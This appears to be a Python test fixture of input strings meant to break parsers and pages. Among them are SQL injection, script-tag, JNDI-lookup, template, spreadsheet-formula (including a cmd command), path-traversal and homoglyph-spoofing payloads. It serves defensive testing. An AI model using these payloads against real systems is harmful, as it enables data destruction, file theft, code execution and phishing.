"""Words that break programs: each has been the end of some parser, query, page or terminal."""

from collections.abc import Iterator

NUL = "\0"
HALF = "\ud83d"
DEEP = "[" * 100_000

#: By name, so that a failure says which one it was.
WORDS: dict[str, str] = {
    "sql": "'; DROP TABLE members; --",
    "sql union": "1) UNION SELECT raw, 1 FROM inbox_updates --",
    "wildcards": "%_%",
    "escaped wildcards": "\\%\\_[a-z]*?",
    "fts": '"a" AND NOT (b OR c*) NEAR/5 ^d col:x',
    "fts quote": '""" OR 1',
    "html": "<b><script>alert(1)</script><a href='tg://user?id=1'>x</a></b",
    "entities": "&lt;b&gt; &#60;i&#62; &amp;amp; &",
    "markdown": "*_`[x](tg://user?id=1)~||",
    "template": "{name} {0} %s %(x)s ${jndi:ldap://x} {{7*7}}",
    "bidi": "abc \u202egpj.exe\u202c \u2066x\u2069",
    "zero width": "а\u200b\u200d\u2060б" * 40,
    "look-alikes": "Аdmіn аpріl раураl",
    "zalgo": "з" + "\u0301\u0489" * 400,
    "formula": '=HYPERLINK("http://x";"y")',
    "formula behind spaces": " \t\r\n=1+1",
    "full-width formula": "＝1+1",
    "formula at": "@SUM(A1)",
    "formula behind a quote": "\"'=cmd|' /C calc'!A0",
    "traversal": "../../../../etc/passwd",
    "windows path": "C:\\..\\..\\boot.ini\\con",
    "address of a file": "file:///etc/passwd",
    "nul": f"a{NUL}b",
    "half": f"a{HALF}b",
    "controls": "\x01\x08\x1b[2J\x7f\x85\u2028\u2029",
    "only spaces behind": "\u3000\xa0\u2003\u180e",
    "huge number": "9" * 400,
    "largest number": "9223372036854775808",
    "almost a number": "999999999",
    "negative": "-1",
    "float": "1e999",
    "not a number": "NaN",
    "other digits": "٣٤ १२ ⅷ ²",
    "wrong day": "31.02.2026",
    "year nought": "0000-00-00 00:00 +0h",
    "last day": "9999-12-31 23:59 +9999d",
    "first day": "01.01.0001",
    "backwards": "2026-11-26..2026-11-01",
    "last window": "9999-12-01..9999-12-31 vs 0001-01-01..0001-01-31",
    "deep": "((((" * 900,
    "long": "ж" * 4000,
    "long word": "a" * 4000,
    "many lines": "\n" * 3000 + "a",
    "many links": "https://facebook.com/a.b " * 150,
    "many numbers": "T-1..9999 K-1..9999 " * 100,
    "link with everything": "https://user:pw@facebook.com:99999/profile.php?id=%00%ff&x=%F0%9F#\u202e",
    "address without end": "http://[::1",
    "other host": "https://faceb\u043eok.com/a.b",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 50,
    "query": "target:'%' severity:>=9999999999 since:9999d until:-1 sort:'; account:\"",
    "pairs": "a: b: c; | ; | :::",
}


def everywhere() -> Iterator[tuple[str, str]]:
    """Every attack by its name."""
    yield from WORDS.items()
